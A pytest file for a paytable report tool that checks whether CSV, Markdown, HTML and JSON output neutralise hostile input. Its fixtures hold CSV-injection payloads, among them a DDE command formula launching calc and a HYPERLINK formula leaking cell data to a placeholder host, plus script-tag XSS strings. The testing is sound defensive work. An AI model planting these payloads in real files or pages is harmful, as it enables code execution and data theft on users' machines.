"""Hostile names, events and file names in every sheet format: a spreadsheet runs no formula,
Markdown tables keep their shape, HTML gets no markup, JSON returns every string intact."""

from __future__ import annotations

import csv
import io
import json
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from exactodds.bets.loader import load_paytable
from exactodds.escape import csv_cell
from exactodds.figures.compare import compare_variants, render_comparison
from exactodds.report import Sheet, build_sheets, render_sheets

FORMULAS = ['=HYPERLINK("http://x.example/?q="&A1,"click")', "+1+2", "@SUM(A1:A9)", "-2+3"]
TABLE_BREAKERS = ["a|b", "line\nbreak", "tick`s ``x``", "<script>alert(1)</script>", "- 5 to 1"]

PAYTABLE = """\
name = "=cmd|' /C calc'!A0 <b>game</b>"
description = "1. line one\\n| --- |\\n<script>alert('d')</script>"
decks = 1

[bets.player]
name = "@player|`name`"
description = "+ described\\n# not a heading"
rows = [
  { when = "player.wins", pays = "1:1", event = '=HYPERLINK("http://x.example/?q="&A1,"click")' },
  { when = "winner == tie", pays = "push", event = "+1+2" },
  { when = "player.total == 0", pays = "lose", event = "@SUM(A1:A9)" },
  { when = "banker.total == 9", pays = "lose", event = "-2+3" },
  { when = "banker.total == 8", pays = "lose", event = "a|b" },
  { when = "banker.total == 7", pays = "lose", event = "line\\nbreak" },
  { when = "banker.total == 6", pays = "lose", event = "tick`s ``x``" },
  { when = "banker.total == 5", pays = "lose", event = "<script>alert(1)</script>" },
  { when = "otherwise", pays = "lose", event = "- 5 to 1" },
]
"""

NUMBER = re.compile(r"[+-]?\d+(\.\d+)?(/\d+)?(;[+-]?\d+(\.\d+)?(/\d+)?)*")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Sheet:
    folder = tmp_path_factory.mktemp("hostile")
    path = folder / "g`a|me <x>.toml"
    path.write_text(PAYTABLE, encoding="utf-8")
    (sheet,) = build_sheets([str(path)], date="2024-06-01", version="test")
    return sheet


def test_csv_cells_never_start_a_formula_and_numbers_stay(hostile: Sheet) -> None:
    lines = list(csv.reader(io.StringIO(render_sheets([hostile], "csv"), newline="")))
    cells = [cell for line in lines for cell in line]
    for cell in cells:
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            assert NUMBER.fullmatch(cell), cell
    rows = [dict(zip(lines[0], line, strict=True)) for line in lines[1:]]
    events = [r["item"] for r in rows if r["kind"] == "row"]
    assert events == [*("'" + f for f in FORMULAS), *TABLE_BREAKERS[:4], "'- 5 to 1"]
    assert {r["paytable"] for r in rows} == {"'=cmd|' /C calc'!A0 <b>game</b>"}
    assert {r["bet"] for r in rows if r["bet_id"]} == {"'@player|`name`"}
    # numbers untouched: negative returns and exact fractions read back as numbers
    lose = next(r for r in rows if r["kind"] == "row" and r["item"] == "'- 5 to 1")
    assert lose["return"].startswith("-") and float(lose["return"]) < 0
    probability, ret = lose["exact"].split(";")
    assert ret.startswith("-") and ret == f"-{probability}"
    total = next(r for r in rows if r["kind"] == "total")
    assert int(total["combinations"]) == hostile.universe


def test_csv_cell_examples() -> None:
    assert csv_cell("\tx") == "'\tx" and csv_cell("\rx") == "'\rx"
    assert csv_cell("-12") == "-12" and csv_cell("-1/2;3/4") == "-1/2;3/4"
    assert csv_cell("-1/2/3") == "'-1/2/3" and csv_cell("-1e5") == "'-1e5"
    assert csv_cell("a=b") == "a=b" and csv_cell("") == ""
    assert csv_cell("-\u0663") == "'-\u0663"  # a number is written in ASCII digits


def _table_rows(md: str) -> list[list[str]]:
    """Every Markdown table as rows of cells, split on unescaped ``|``."""
    tables: list[list[str]] = []
    for line in md.splitlines():
        if line.startswith("|"):
            tables.append(re.split(r"(?<!\\)\|", line)[1:-1])
    return tables


def test_markdown_tables_keep_their_shape(hostile: Sheet) -> None:
    md = render_sheets([hostile], "md")
    width = None
    for line in md.splitlines():
        if line.startswith("|"):
            cells = len(re.split(r"(?<!\\)\|", line)) - 2
            width = cells if width is None else width
            assert cells == width, line
        else:
            width = None
        assert not line.startswith(("<script", "| ---", "# not", "+ described", "1. line"))
    assert "<script>" not in md and "&lt;" not in md  # escaped as \<script\>


def test_markdown_renders_every_name_and_event_intact(hostile: Sheet) -> None:
    markdown_it = pytest.importorskip("markdown_it")
    html = (
        markdown_it.MarkdownIt("commonmark").enable("table").render(render_sheets([hostile], "md"))
    )
    parsed = _Text()
    parsed.feed(html)
    assert parsed.tags.get("script", 0) == 0 and parsed.tags.get("b", 0) == 0
    assert parsed.tags.get("ol", 0) == 0 and parsed.tags.get("ul", 0) == 0
    cells = parsed.cells
    for event in [*FORMULAS, *TABLE_BREAKERS]:
        assert event.replace("\n", " ") in cells, event
    assert "=cmd|' /C calc'!A0 <b>game</b> — math sheet" in parsed.headings
    assert any(c.endswith("g`a|me <x>.toml") for c in parsed.codes), parsed.codes


def test_html_escapes_text_and_attributes(hostile: Sheet) -> None:
    html = render_sheets([hostile], "html")
    parsed = _Text()
    parsed.feed(html)
    # the designer's data block and script only (the data keeps every string intact)
    assert parsed.tags.get("script", 0) == 2 and parsed.tags.get("b", 0) == 0
    data = json.loads(parsed.data)
    assert [r["event"] for r in data["bets"][0]["rows"]] == [*FORMULAS, *TABLE_BREAKERS]
    block = html.split('id="exactodds-data">', 1)[1].split("</script>", 1)[0]
    assert data["bets"][0]["name"] == "@player|`name`" and "<" not in block
    for event in [*FORMULAS, *TABLE_BREAKERS]:
        assert event in parsed.cells, event
    assert any(c.endswith("g`a|me <x>.toml") for c in parsed.codes)
    labels = [dict(attrs)["aria-label"] for attrs in parsed.attrs if ("class", "pays") in attrs]
    events = [*FORMULAS, *TABLE_BREAKERS]
    assert labels == [f"Payout of @player|`name`, row {k}: {e}" for k, e in enumerate(events, 1)]
    others = [v for attrs in parsed.attrs for k, v in attrs if v and k != "aria-label"]
    assert all('"' not in v for v in others)


def test_json_keeps_every_string(hostile: Sheet) -> None:
    data = json.loads(render_sheets([hostile], "json"))
    assert data["paytable"] == "=cmd|' /C calc'!A0 <b>game</b>"
    assert data["bets"][0]["name"] == "@player|`name`"
    assert [r["event"] for r in data["bets"][0]["rows"]] == [*FORMULAS, *TABLE_BREAKERS]
    assert data["file"].endswith("g`a|me <x>.toml")


def test_comparison_csv_and_markdown(tmp_path: Path) -> None:
    path = tmp_path / "game.toml"
    path.write_text(PAYTABLE, encoding="utf-8")
    comparison = compare_variants(load_paytable(path), ties=["8:1"], rules=["punto-banco"])
    md = render_comparison(comparison, "md").splitlines()
    table = [line for line in md if line.startswith("|")]
    assert len({len(re.split(r"(?<!\\)\|", line)) for line in table}) == 1
    assert "@player\\|`name`" in table[0]
    rows = list(csv.reader(io.StringIO(render_comparison(comparison, "csv"))))
    assert all(not c.startswith(("=", "+", "@")) for row in rows for c in row)
    assert [row[4] for row in rows[1:]] == ["player", "tie"]


class _Text(HTMLParser):
    """Texts of table cells, headings and code elements of an HTML page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: dict[str, int] = {}
        self.cells: list[str] = []
        self.headings: list[str] = []
        self.codes: list[str] = []
        self.attrs: list[list[tuple[str, str | None]]] = []
        self.data = ""  # the JSON data block
        self._open: dict[str, list[str]] = {}

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags[tag] = self.tags.get(tag, 0) + 1
        self.attrs.append(attrs)
        if tag in ("td", "th", "h1", "h2", "h3", "code"):
            self._open[tag] = []
        if tag == "script" and ("type", "application/json") in attrs:
            self._open["data"] = []

    def handle_endtag(self, tag: str) -> None:
        if tag == "script" and "data" in self._open:
            self.data = "".join(self._open.pop("data"))
        text = "".join(self._open.pop(tag, []))
        if tag in ("td", "th"):
            self.cells.append(text)
        elif tag in ("h1", "h2", "h3"):
            self.headings.append(text)
        elif tag == "code":
            self.codes.append(text)

    def handle_data(self, data: str) -> None:
        for parts in self._open.values():
            parts.append(data)
